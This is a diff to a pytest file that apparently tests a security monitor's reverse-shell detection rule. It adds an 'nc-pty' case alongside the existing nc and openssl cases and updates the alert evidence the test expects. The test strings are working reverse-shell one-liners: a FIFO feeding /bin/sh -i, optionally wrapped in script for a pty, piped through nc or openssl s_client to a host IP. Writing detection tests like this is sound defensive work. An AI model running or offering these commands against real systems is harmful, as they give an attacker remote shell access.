@@ -90,12 +90,16 @@ def make_certificate(tmp_path) -> str:
     return f"{tmp_path / 'srv.pem'},{tmp_path / 'srv.key'}"
 
 
-@pytest.mark.parametrize("helper", ["nc", "openssl"])
+@pytest.mark.parametrize("helper", ["nc", "openssl", "nc-pty"])
 def test_fifo_reverse_shell(net, tmp_path, helper):
-    port = {"nc": 4451, "openssl": 4452}[helper]
+    port = {"nc": 4451, "openssl": 4452, "nc-pty": 4453}[helper]
     fifo = tmp_path / "f"
     if helper == "nc":
         script = f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {HOST_IP} {port} > {fifo}"
+        certs = "-"
+    elif helper == "nc-pty":     # a pty wrapper between the pipes and the shell: its stdin is a terminal
+        script = (f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | script -qfc '/bin/sh -i' /dev/null 2>&1 "
+                  f"| nc {HOST_IP} {port} > {fifo}")
         certs = "-"
     else:
         script = (f"rm -f {fifo}; mkfifo {fifo}; /bin/sh -i < {fifo} 2>&1 | openssl s_client -quiet "
@@ -111,14 +115,15 @@ def test_fifo_reverse_shell(net, tmp_path, helper):
             alert = run.wait_alert("reverse_shell", timeout=15)
             docs = run.finish(status=None)
 
-    name = "nc" if helper == "nc" else "openssl"
+    name = "openssl" if helper == "openssl" else "nc"
     conn = flow_of(docs, "connection_established", destination__ip=HOST_IP, destination__port=port)
     assert get(conn, "process.name") == name, conn
     shell = [d for d in select(docs, "process_started") if get(d, "process.args") == ["/bin/sh", "-i"]]
     assert shell, dump(docs)
     assert rule_counts(docs) == {"reverse_shell": 1}, "\n".join(get(a, "message") for a in alerts(docs))
     assert_alert(alert, "reverse_shell", episode, get(shell[0], "process.pid"),
-                 [HOST_IP, str(port), name, "pipe:[" if helper == "nc" else "fifo:["], evidence=conn)
+                 [HOST_IP, str(port), name, {"nc": "pipe:[", "openssl": "fifo:[", "nc-pty": "pty:["}[helper]],
+                 evidence=conn)
     lag = ts(alert) - output_at
     act = min(ts(d) for d in select(docs, "process_started"))     # the workload's /bin/sh -c
     report(f"reverse_shell FIFO + {helper}", run, alert, conn, "the helper's connection")
